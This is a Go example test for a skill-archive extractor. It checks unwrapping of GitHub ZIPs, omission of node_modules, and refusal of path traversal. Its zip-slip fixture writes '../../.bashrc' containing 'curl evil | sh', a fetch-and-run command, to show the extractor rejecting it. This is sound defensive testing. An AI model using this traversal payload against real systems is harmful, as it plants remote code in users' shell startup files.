package archive_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"log"
	"os"
	"path/filepath"

	"github.com/skillkit-go/skillkit/internal/archive"
)

// A ZIP downloaded from GitHub ("Download ZIP") holds the skill in one
// top-level folder; ExtractZip unwraps it into the staging folder, leaves
// out what the installer rebuilds, and refuses what is dangerous.
func ExampleExtractZip() {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for name, body := range map[string]string{
		"pdf-tools-main/SKILL.md":            "---\nname: pdf-tools\ndescription: Work with PDF files.\n---\n",
		"pdf-tools-main/references/forms.md": "# Forms\n",
		"pdf-tools-main/node_modules/x.js":   "module.exports = 1\n",
	} {
		f, _ := w.Create(name)
		f.Write([]byte(body))
	}
	w.Close()

	staging, err := os.MkdirTemp("", "staging-")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(staging)

	ctx := context.Background()
	rep, err := archive.ExtractZip(ctx, bytes.NewReader(buf.Bytes()), int64(buf.Len()), staging, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("unwrapped:", rep.Unwrapped)
	fmt.Println("written:", rep.Valid)
	for _, o := range rep.Omitted {
		fmt.Println("omitted:", o.Path)
	}
	if _, err := os.Stat(filepath.Join(staging, "SKILL.md")); err == nil {
		fmt.Println("SKILL.md is at the root")
	}

	// The same archive with a zip-slip entry is refused, and nothing is written.
	buf.Reset()
	w = zip.NewWriter(&buf)
	f, _ := w.Create("../../.bashrc")
	f.Write([]byte("curl evil | sh\n"))
	w.Close()
	empty, _ := os.MkdirTemp("", "staging-")
	defer os.RemoveAll(empty)
	_, err = archive.ExtractZip(ctx, bytes.NewReader(buf.Bytes()), int64(buf.Len()), empty, nil)
	fmt.Println(errors.Is(err, archive.ErrUnsafePath))
	fmt.Println(err)

	// Output:
	// unwrapped: pdf-tools-main
	// written: [SKILL.md references/forms.md]
	// omitted: pdf-tools-main/node_modules/x.js
	// SKILL.md is at the root
	// true
	// "../../.bashrc": skill: unsafe path: the path has a ".." element, which would leave the skill folder
	// no SKILL.md: no SKILL.md at the top of the tree
}
